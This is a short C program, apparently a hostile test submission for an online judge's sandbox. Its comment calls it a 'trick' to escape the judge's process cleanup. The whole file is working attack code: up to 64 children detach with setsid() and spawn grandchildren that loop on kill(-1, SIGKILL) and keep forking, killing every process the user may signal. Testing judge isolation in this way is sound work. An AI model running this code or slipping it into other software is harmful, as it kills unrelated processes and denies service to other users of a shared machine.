/* Trick: a fork storm that leaves the tree. Children setsid() and fork grandchildren that loop on
 * kill(-1, SIGKILL): if any one outlives the judge's kill it kills every process its uid may signal (in
 * a fallback where all programs run as one user: the next submission's program), and it keeps forking
 * while the judge sweeps. Bounded by the judge's process limit and by STORM (default 64) children. */
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#ifndef STORM
#define STORM 64
#endif

int main(void) {
    for (int i = 0; i < STORM; ++i) {
        pid_t child = fork();
        if (child < 0) break;
        if (child == 0) {
            setsid();
            if (fork() == 0) {
                for (;;) {
                    kill(-1, SIGKILL);
                    if (fork() == 0) _exit(0);
                    usleep(2000);
                }
            }
            _exit(0);
        }
    }
    return 0;
}
